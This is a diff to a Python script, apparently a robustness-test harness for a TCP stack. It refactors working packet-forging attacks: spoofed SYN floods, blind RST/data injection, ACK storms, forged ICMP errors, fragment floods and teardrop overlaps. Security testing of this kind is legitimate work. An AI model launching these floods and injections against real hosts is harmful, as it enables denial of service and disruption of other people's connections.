@@ -150,54 +150,87 @@ def victim_segment(args, flags, seq, ack=0, payload=b"", tsval=None):
     return bytes(p)
 
 
-def pool(n, make):
-    return [make(i) for i in range(n)]
+def count(args):
+    """Packets an attack sends: its rate for its duration, at most --max.
+    Each is built distinct (its own guess), by patching a template that
+    scapy built: building every one with scapy takes seconds of a CPU the
+    victim keeps busy."""
+    return max(1, min(args.max, int(args.rate * args.duration)))
+
+
+def fix_ip_checksum(b, ihl):
+    b[10:12] = b"\0\0"
+    b[10:12] = checksum(bytes(b[:ihl])).to_bytes(2, "big")
+
+
+def fix_tcp_checksum(b, ihl):
+    b[ihl + 16 : ihl + 18] = b"\0\0"
+    seg = bytes(b[ihl:])
+    pseudo = bytes(b[12:20]) + bytes([0, 6]) + len(seg).to_bytes(2, "big")
+    b[ihl + 16 : ihl + 18] = checksum(pseudo + seg).to_bytes(2, "big")
+
+
+def tcp_variant(template, src=None, sport=None, seq=None, ack=None, tsval=None):
+    """`template` (IPv4 + TCP, built by scapy) with a new source address,
+    source port, SEQ, ACK or TSval (timestamps right after two NOPs, as
+    victim_segment() puts them), and its checksums redone."""
+    b = bytearray(template)
+    ihl = (b[0] & 0x0F) * 4
+    if src is not None:
+        b[12:16] = socket.inet_aton(src)
+        fix_ip_checksum(b, ihl)
+    for off, v in ((0, sport), (4, seq), (8, ack), (24, tsval)):
+        if v is not None:
+            n = 2 if off == 0 else 4
+            b[ihl + off : ihl + off + n] = v.to_bytes(n, "big")
+    fix_tcp_checksum(b, ihl)
+    return bytes(b)
+
+
+def ip_variant(template, src, ident):
+    """`template` with a new source address and identification."""
+    b = bytearray(template)
+    b[4:6] = ident.to_bytes(2, "big")
+    b[12:16] = socket.inet_aton(src)
+    fix_ip_checksum(b, (b[0] & 0x0F) * 4)
+    return bytes(b)
 
 
 def attack_syn_flood(args, wire, out):
-    pkts = pool(
-        args.pool,
-        lambda i: bytes(
-            IP(src=spoofed(args, i), dst=args.dst)
-            / TCP(sport=1024 + (i * 7919) % 60000, dport=args.dport, flags="S", seq=random.getrandbits(32), window=65535, options=[("MSS", 1460)])
-        ),
+    template = bytes(
+        IP(src=spoofed(args, 0), dst=args.dst)
+        / TCP(sport=1024, dport=args.dport, flags="S", seq=0, window=65535, options=[("MSS", 1460)])
     )
+    pkts = [
+        tcp_variant(template, src=spoofed(args, i), sport=1024 + (i * 7919) % 60000, seq=random.getrandbits(32))
+        for i in range(min(count(args), args.pool))
+    ]
     print("started", flush=True)
     out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
     out["distinct_syns"] = len(pkts)
 
 
-def attack_rst(args, wire, out):
-    pkts = pool(args.pool, lambda i: victim_segment(args, "R", random.getrandbits(32)))
+def blind(args, wire, out, flags, payload=b""):
+    # Random SEQ (and ACK), and a guessed TSval, for each packet.
+    template = victim_segment(args, flags, 0, 0, payload, tsval=0)
+    r = random.getrandbits
+    pkts = [
+        tcp_variant(template, seq=r(32), ack=r(32) if payload else None, tsval=r(32)) for _ in range(count(args))
+    ]
     print("started", flush=True)
     out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
+
+
+def attack_rst(args, wire, out):
+    blind(args, wire, out, "R")
 
 
 def attack_syn(args, wire, out):
-    pkts = pool(args.pool, lambda i: victim_segment(args, "S", random.getrandbits(32)))
-    print("started", flush=True)
-    out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
+    blind(args, wire, out, "S")
 
 
 def attack_data(args, wire, out):
-    pkts = pool(args.pool, lambda i: victim_segment(args, "PA", random.getrandbits(32), random.getrandbits(32), b"\xee" * 100))
-    print("started", flush=True)
-    out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
-
-
-def patch_tcp(raw, src, dst, seq, ack, tsval):
-    """Rewrites SEQ, ACK and the TSval of a packet from victim_segment()
-    (timestamps right after two NOPs) and its TCP checksum."""
-    b = bytearray(raw)
-    ihl = (b[0] & 0x0F) * 4
-    b[ihl + 4 : ihl + 8] = seq.to_bytes(4, "big")
-    b[ihl + 8 : ihl + 12] = ack.to_bytes(4, "big")
-    b[ihl + 24 : ihl + 28] = tsval.to_bytes(4, "big")
-    b[ihl + 16 : ihl + 18] = b"\0\0"
-    seg = bytes(b[ihl:])
-    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + bytes([0, 6]) + len(seg).to_bytes(2, "big")
-    b[ihl + 16 : ihl + 18] = checksum(pseudo + seg).to_bytes(2, "big")
-    return bytes(b)
+    blind(args, wire, out, "PA", b"\xee" * 100)
 
 
 def attack_ack_storm(args, wire, out):
@@ -212,7 +245,6 @@ def attack_ack_storm(args, wire, out):
     # never got, which an on-path attacker can always do and no TCP can
     # tell.
     template = victim_segment(args, "A", 0, 0, tsval=0)
-    pkts = [template] * args.pool
     wire.listen(args.dst, outgoing=True)
     seen = None
     end = now() + 5
@@ -230,15 +262,13 @@ def attack_ack_storm(args, wire, out):
     m = 1 << 32
     future = (tsval + 100_000) % m
     pkts = [
-        patch_tcp(
+        tcp_variant(
             template,
-            args.host,
-            args.dst,
-            seq,
-            (ack + (1 << 30) + random.getrandbits(30)) % m if i % 2 == 0 else (ack - (1 << 30) - random.getrandbits(30)) % m,
-            future,
+            seq=seq,
+            ack=(ack + (1 << 30) + random.getrandbits(30)) % m if i % 2 == 0 else (ack - (1 << 30) - random.getrandbits(30)) % m,
+            tsval=future,
         )
-        for i in range(args.pool)
+        for i in range(count(args))
     ]
     print("started", flush=True)
     out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
@@ -248,16 +278,23 @@ def attack_icmp(args, wire, out):
     # Errors about ustack's segments of the victim connection (ustack:80 ->
     # kernel:sport) quoting a random sequence number: half "fragmentation
     # needed" with an MTU of 68, half "port unreachable".
-    def make(i):
-        quoted = IP(src=args.dst, dst=args.host) / TCP(sport=args.dport, dport=args.sport, flags="A", seq=random.getrandbits(32))
-        q = bytes(quoted)[:28]
-        if i % 2 == 0:
-            icmp = ICMP(type=3, code=4, nexthopmtu=68)
-        else:
-            icmp = ICMP(type=3, code=3)
-        return bytes(IP(src=args.host, dst=args.dst) / icmp / Raw(q))
+    quoted = bytes(IP(src=args.dst, dst=args.host) / TCP(sport=args.dport, dport=args.sport, flags="A", seq=0))[:28]
+    templates = [
+        bytes(IP(src=args.host, dst=args.dst) / ICMP(type=3, code=4, nexthopmtu=68) / Raw(quoted)),
+        bytes(IP(src=args.host, dst=args.dst) / ICMP(type=3, code=3) / Raw(quoted)),
+    ]
 
-    pkts = pool(args.pool, make)
+    def make(i):
+        b = bytearray(templates[i % 2])
+        ihl = (b[0] & 0x0F) * 4
+        # The quoted TCP header's SEQ: after the ICMP header (8) and the
+        # quoted IP header (20).
+        b[ihl + 8 + 20 + 4 : ihl + 8 + 20 + 8] = random.getrandbits(32).to_bytes(4, "big")
+        b[ihl + 2 : ihl + 4] = b"\0\0"
+        b[ihl + 2 : ihl + 4] = checksum(bytes(b[ihl:])).to_bytes(2, "big")
+        return bytes(b)
+
+    pkts = [make(i) for i in range(count(args))]
     print("started", flush=True)
     out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
 
@@ -269,11 +306,8 @@ def attack_frag_flood(args, wire, out):
     # First fragments of UDP datagrams (to the echo port) that never
     # complete, each with its own identification.
     body = bytes(UDP(sport=5000, dport=7, len=8 + 4000)) + b"\x55" * 1472
-
-    def make(i):
-        return bytes(IP(src=spoofed(args, i), dst=args.dst, id=i + 1, flags="MF", frag=0, proto=17) / Raw(body))
-
-    pkts = pool(args.pool, make)
+    template = bytes(IP(src=spoofed(args, 0), dst=args.dst, id=1, flags="MF", frag=0, proto=17) / Raw(body))
+    pkts = [ip_variant(template, spoofed(args, i), i % 65535 + 1) for i in range(count(args))]
     print("started", flush=True)
     out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
 
@@ -282,17 +316,18 @@ def attack_frag_overlap(args, wire, out):
     # Pairs of fragments that overlap: a teardrop (the second starts inside
     # the first and ends before it) and a rewrite (the second overwrites the
     # first's UDP header region and completes the datagram).
+    head = bytes(UDP(sport=5000, dport=7, len=8 + 200)) + b"\x11" * 192
+    src0 = spoofed(args, 0)
+    first = bytes(IP(src=src0, dst=args.dst, id=1, flags="MF", frag=0, proto=17) / Raw(head))
+    # Offset 24 bytes, inside the first: teardrop.
+    teardrop = bytes(IP(src=src0, dst=args.dst, id=1, flags=0, frag=3, proto=17) / Raw(b"\x22" * 24))
+    # Offset 0 again: rewrites the header.
+    rewrite = bytes(IP(src=src0, dst=args.dst, id=1, flags=0, frag=0, proto=17) / Raw(b"\x33" * 208))
     pkts = []
-    for i in range(args.pool // 2):
-        src = spoofed(args, i)
-        head = bytes(UDP(sport=5000, dport=7, len=8 + 200)) + b"\x11" * 192
-        pkts.append(bytes(IP(src=src, dst=args.dst, id=i + 1, flags="MF", frag=0, proto=17) / Raw(head)))
-        if i % 2 == 0:
-            tail = b"\x22" * 24  # offset 24 bytes, inside the first: teardrop
-            pkts.append(bytes(IP(src=src, dst=args.dst, id=i + 1, flags=0, frag=3, proto=17) / Raw(tail)))
-        else:
-            tail = b"\x33" * 208  # offset 0 again: rewrites the header
-            pkts.append(bytes(IP(src=src, dst=args.dst, id=i + 1, flags=0, frag=0, proto=17) / Raw(tail)))
+    for i in range(count(args) // 2):
+        src, ident = spoofed(args, i), i % 65535 + 1
+        pkts.append(ip_variant(first, src, ident))
+        pkts.append(ip_variant(teardrop if i % 2 == 0 else rewrite, src, ident))
     print("started", flush=True)
     out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
     # Then a legitimate datagram in fragments (the kernel fragments a 3,000
@@ -543,10 +578,8 @@ def attack_ooo_flood(args, wire, out):
     window = p.peer_window  # no window scaling was offered: bytes
     offsets = list(range(2, max(4, window), 2))
 
-    def make(off):
-        return p.seg("A", seq=(p.snd_nxt + off) % (1 << 32), payload=b"\xee")
-
-    pkts = [make(o) for o in offsets[: args.pool]]
+    template = p.seg("A", seq=p.snd_nxt, payload=b"\xee")
+    pkts = [tcp_variant(template, seq=(p.snd_nxt + o) % (1 << 32)) for o in offsets[: args.pool]]
     print("started", flush=True)
     out["sent"] = paced(wire, pkts, args.rate, args.duration, args.max)
     out["window"] = window
